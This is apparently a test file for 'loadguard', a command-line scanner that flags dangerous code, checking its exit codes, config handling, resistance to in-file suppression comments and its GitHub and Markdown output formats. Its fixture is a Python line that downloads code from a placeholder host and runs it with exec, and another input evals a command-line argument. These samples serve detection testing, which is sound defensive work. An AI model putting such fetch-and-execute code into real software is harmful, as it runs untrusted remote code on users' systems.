/** `loadguard check -` and the formats that code hosts read, as a process. */

import assert from 'node:assert/strict';
import type { JsonReport } from '../../server/cli/json.ts';
import { CommandLine } from './cli-process.ts';

const BAD = 'import requests\nexec(requests.get("https://a.example/x.py").text)\n';

describe('loadguard check -', () => {
  const line = CommandLine.forTests();

  it('judges a program, and ends with 1 when it should not be run', () => {
    const { code, output } = line.run(['check', '-'], {}, BAD);
    assert.equal(code, 1);
    const { findings, version } = JSON.parse(output) as JsonReport;
    assert.equal(version, 1);
    assert.deepEqual(
      findings.map(({ file, rule, start }) => [file, rule, start.line]),
      [['-', 'remote-exec', 2]],
    );
    assert.deepEqual(line.run(['check', '-'], {}, 'print(1)\n').code, 0);
    assert.equal(line.run(['check', '-', '--language', 'javascript'], {}, 'eval(process.argv[2])').code, 1);
    assert.match(line.run(['check', '-', '--format', 'text'], {}, BAD).output, /remote-exec/);
  });

  it('takes no word of the program for its safety', () => {
    const sly = `# loadguard: ignore-file[remote-exec] reviewed by everybody\n${BAD}`;
    assert.equal(line.run(['check', '-'], {}, sly).code, 1);
  });

  it('says what it cannot do', () => {
    assert.equal(line.run(['check', 'a.py']).code, 2);
    assert.equal(line.run(['check', '-'], {}, `x = "${'y'.repeat(2_100_000)}"\nexec(x)`).code, 2);
    assert.equal(line.run(['check', '-', '--language', 'cobol'], {}, '').code, 2);
  });

  it('follows the settings of the folder', () => {
    line.write('loadguard.jsonc', '{ "rules": { "remote-exec": "hint" } }');
    assert.equal(line.run(['check', '-'], {}, BAD).code, 0);
    assert.equal(line.run(['check', '-', '--no-config'], {}, BAD).code, 1);
  });
});

describe('formats for code hosts', () => {
  const line = CommandLine.forTests();
  beforeEach(() => {
    line.write('a, b.py', BAD);
  });

  it('are annotations of GitHub Actions', () => {
    const { code, output } = line.run(['scan', '--format', 'github']);
    assert.equal(code, 1);
    assert.match(
      output,
      /^::error file=a%2C b\.py,line=2,endLine=2,col=\d+,endColumn=\d+,title=Loadguard%3A remote-exec::\S[^\n]*\n$/,
    );
  });

  it('are a table of Markdown', () => {
    const { output } = line.run(['scan', '--format', 'markdown']);
    assert.match(output, /\| error \| remote-exec \| a, b\.py:2 \| \S.*\|\n$/);
    line.clear();
    assert.equal(line.run(['scan', '--format', 'markdown']).output, 'Loadguard: no findings.\n');
  });
});
